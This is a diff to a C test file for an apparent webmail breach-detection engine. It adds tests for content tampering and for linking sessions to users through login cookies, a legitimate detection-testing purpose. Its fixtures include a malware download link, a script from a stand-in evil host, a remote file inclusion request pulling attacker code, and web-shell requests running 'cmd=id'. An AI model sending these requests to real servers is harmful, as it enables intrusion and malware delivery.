@@ -563,6 +563,41 @@ static void test_exfil_by_addresses(struct bs_engine_config *base_cfg)
 	}
 }
 
+/* Three webmail servers (the other tests' fleet has db and backup hosts). */
+static struct bs_fleet_entry FLEET3[3];
+static const char *const SRV3[3] = { "10.0.1.11", "10.0.1.12", "10.0.1.13" };
+static struct bs_engine_config three_servers(const struct bs_engine_config *base_cfg)
+{
+	static const char *const names[3] = { "wm1", "wm2", "wm3" };
+	for (int s = 0; s < 3; s++)
+		FLEET3[s] = (struct bs_fleet_entry){ (char *)names[s], IP(SRV3[s]), "webmail" };
+	struct bs_engine_config cfg = *base_cfg;
+	cfg.fleet = FLEET3;
+	cfg.nfleet = 3;
+	return cfg;
+}
+
+static void page_with_ref(bs_time ts, const char *client, const char *srv, const char *uri, const char *ref, bool link,
+                          uint64_t txn);
+
+/* Every server serves the same page without outside references to six
+ * clients a day (so that each path is served by all three); into a fresh
+ * aggregate A. Returns the next transaction id. */
+static uint64_t plain_pages(int days, uint64_t txn)
+{
+	A = bs_agg_new();
+	for (int d = 1; d <= days; d++)
+		for (int s = 0; s < 3; s++)
+			for (int c = 0; c < 6; c++) {
+				char client[32];
+				snprintf(client, sizeof client, "198.18.%d.%d", s, c + 1);
+				bs_time t = T(d, 9 + c, s, 0);
+				page_with_ref(t, client, SRV3[s], "/mail/showmail.php", NULL, false, txn++);
+				page_with_ref(t + BS_USEC, client, SRV3[s], "/mail/reademail.php", NULL, false, txn++);
+			}
+	return txn;
+}
+
 /* A page served by srv from client with one reference; link: an <a href>. */
 static void page_with_ref(bs_time ts, const char *client, const char *srv, const char *uri, const char *ref, bool link,
                           uint64_t txn)
@@ -589,34 +624,22 @@ static void page_with_ref(bs_time ts, const char *client, const char *srv, const
  * clients' set is the same whatever the order of merging. */
 static void test_tamper_links(struct bs_engine_config *base_cfg)
 {
-	struct bs_fleet_entry fleet[3] = { { "wm1", IP("10.0.1.11"), "webmail" }, { "wm2", IP("10.0.1.12"), "webmail" },
-	                                   { "wm3", IP("10.0.1.13"), "webmail" } };
-	struct bs_engine_config cfg = *base_cfg;
-	cfg.fleet = fleet;
-	cfg.nfleet = 3;
-	static const char *const srv[3] = { "10.0.1.11", "10.0.1.12", "10.0.1.13" };
-	uint64_t txn = 1;
-	A = bs_agg_new();
-	for (int d = 1; d <= 3; d++)
-		for (int s = 0; s < 3; s++)
-			for (int c = 0; c < 6; c++) {
-				char client[32];
-				snprintf(client, sizeof client, "198.18.%d.%d", s, c + 1);
-				bs_time t = T(d, 9 + c, s, 0);
-				page_with_ref(t, client, srv[s], "/mail/showmail.php", NULL, false, txn++);
-				page_with_ref(t + BS_USEC, client, srv[s], "/mail/reademail.php", NULL, false, txn++);
-				/* wm2: a fake pop-up on every page, to every visitor */
-				if (s == 1 && d >= 2) {
-					page_with_ref(t + 2 * BS_USEC, client, srv[s], "/mail/showmail.php",
-					              "http://upd.example.cn/install.exe", true, txn++);
-				}
-			}
+	struct bs_engine_config cfg = three_servers(base_cfg);
+	uint64_t txn = plain_pages(3, 1);
+	/* wm2: a fake pop-up on every page, to every visitor */
+	for (int d = 2; d <= 3; d++)
+		for (int c = 0; c < 6; c++) {
+			char client[32];
+			snprintf(client, sizeof client, "198.18.1.%d", c + 1);
+			page_with_ref(T(d, 9 + c, 1, 0) + 2 * BS_USEC, client, SRV3[1], "/mail/showmail.php",
+			              "http://upd.example.cn/install.exe", true, txn++);
+		}
 	/* wm1: one reader's message with a link, read five times */
 	for (int i = 0; i < 5; i++)
-		page_with_ref(T(2, 12, i, 0), "198.18.0.1", srv[0], "/mail/reademail.php", "http://files.reader.example.org/a.zip",
+		page_with_ref(T(2, 12, i, 0), "198.18.0.1", SRV3[0], "/mail/reademail.php", "http://files.reader.example.org/a.zip",
 		              true, txn++);
 	/* wm3: a script on one page, to one client */
-	page_with_ref(T(3, 12, 0, 0), "198.18.2.1", srv[2], "/mail/showmail.php", "http://evil.example.cn/x.js", false, txn++);
+	page_with_ref(T(3, 12, 0, 0), "198.18.2.1", SRV3[2], "/mail/showmail.php", "http://evil.example.cn/x.js", false, txn++);
 	struct bs_results *r = correlate(A, &cfg);
 	ok(!(r->servers[0].signals & (1u << BS_SIG_TAMPERED_CONTENT)), "one reader's message link: no tampering");
 	ok(r->servers[1].signals & (1u << BS_SIG_TAMPERED_CONTENT), "a link on the pages of six visitors: tampering");
@@ -640,6 +663,57 @@ static void test_tamper_links(struct bs_engine_config *base_cfg)
 	   "clients: the four smallest distinct hashes (0 as 1), whatever the order");
 }
 
+/* A login answered by the inbox page (PHP: the session the login page
+ * opened, no new cookie): the login request's token-like cookie becomes
+ * the user's session, so pages served with it count for that user; a
+ * short shared cookie (lang=en) is no session. */
+static void test_session_from_login_cookie(struct bs_engine_config *base_cfg)
+{
+	struct bs_engine_config cfg = three_servers(base_cfg);
+	uint64_t txn = plain_pages(2, 1);
+	const char *cookies[2] = { "lang=en; PHPSESSID=0123456789abcdef0123456789",
+	                           "lang=en; PHPSESSID=fedcba9876543210fedcba9876" };
+	const char *users[2] = { "alice@example.net", "bob@example.net" };
+	for (int u = 0; u < 2; u++) {
+		struct bs_event e;
+		base(&e, BS_EV_HTTP, T(3, 10, u, 0), u ? "198.18.9.2" : "198.18.9.1", SRV3[2]);
+		e.u.http.phase = BS_HTTP_COMPLETE;
+		e.u.http.txn_id = txn++;
+		e.u.http.method = S("POST");
+		e.u.http.uri = S("/mail/login.php");
+		e.u.http.status = 200;
+		e.u.http.login_user = S(users[u]);
+		e.u.http.login_answer = BS_LOGIN_ANSWER_SUCCESS;
+		e.u.http.cookie = S(cookies[u]);
+		bs_agg_sink(A, &e);
+	}
+	/* wm3 tampered: a script only its copy has, served to alice's session */
+	struct bs_event e;
+	base(&e, BS_EV_HTTP, T(3, 10, 5, 0), "198.18.9.1", SRV3[2]);
+	e.u.http.phase = BS_HTTP_COMPLETE;
+	e.u.http.txn_id = txn++;
+	e.u.http.method = S("GET");
+	e.u.http.uri = S("/mail/showmail.php");
+	e.u.http.status = 200;
+	e.u.http.resp_content_type = S("text/html");
+	e.u.http.cookie = S(cookies[0]);
+	e.u.http.refs[0] = S("http://evil.example.cn/x.js");
+	e.u.http.nrefs = 1;
+	bs_agg_sink(A, &e);
+	/* and an exploit, so that wm3 is compromised and its pages judged */
+	http(T(3, 9, 0, 0), "203.0.113.66", SRV3[2], "GET", "/mail/parse.php?file=http://203.0.113.66/x.txt?&cmd=id", 200,
+	     NULL, NULL, NULL, NULL, true, txn++);
+	http(T(3, 9, 1, 0), "203.0.113.66", SRV3[2], "GET", "/mail/tmp/.c.php?cmd=id", 200, NULL, NULL, NULL, NULL, true,
+	     txn++);
+	struct bs_results *r = correlate(A, &cfg);
+	is_int(r->servers[2].verdict, BS_V_COMPROMISED, "session from the login's cookie: wm3 compromised");
+	ok(cat(find(r, "alice@example.net"), BS_CAT_TROJAN_PAGE_SERVED),
+	   "a login answered by its page: the request's PHPSESSID is alice's session, the tampered page hers");
+	ok(!cat(find(r, "bob@example.net"), BS_CAT_TROJAN_PAGE_SERVED), "lang=en, which both sent, is nobody's session");
+	bs_results_free(r);
+	bs_agg_free(A);
+}
+
 int main(void)
 {
 	struct bs_engine_config cfg = { 0 };
@@ -661,6 +735,7 @@ int main(void)
 	test_bare_logins();
 	test_exfil_by_addresses(&cfg);
 	test_tamper_links(&cfg);
+	test_session_from_login_cookie(&cfg);
 	A = bs_agg_new();
 	scenario(0);
 	struct bs_results *r = correlate(A, &cfg);
